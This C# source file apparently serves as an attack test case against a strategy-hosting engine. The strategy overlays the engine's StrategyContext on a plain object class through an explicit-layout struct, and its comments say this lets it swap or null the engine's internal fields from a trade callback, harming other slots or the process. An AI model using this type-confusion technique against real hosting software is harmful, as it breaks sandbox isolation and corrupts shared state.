// Abuses: explicit layout again, this time over the engine's own context, whose fields are seen as plain objects.
// Harm: fields of the engine (gate, slot, order table) can be swapped or set to null from inside a callback.
// Kind: hurts another slot or the process.
#pragma warning disable CS0649 // fields that are only written from elsewhere
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.InteropServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.ExplicitLayoutContextAttack;

public sealed class ExplicitLayoutContextStrategy : Attacker
{
    private sealed class Fields
    {
        public object? A, B, C, D;
    }

    [StructLayout(LayoutKind.Explicit, Size = 8)]
    private struct Union
    {
        [FieldOffset(0)] public StrategyContext Context;
        [FieldOffset(0)] public Fields Fields;
    }

    private Union _union;

    public override void OnTrade(in TradeEvent trade)
    {
        _union.Context = Context;
        Fields fields = _union.Fields;
        (fields.A, fields.B) = (fields.B, fields.A);
        Act(fields.A == fields.B ? 1 : 2);
    }
}
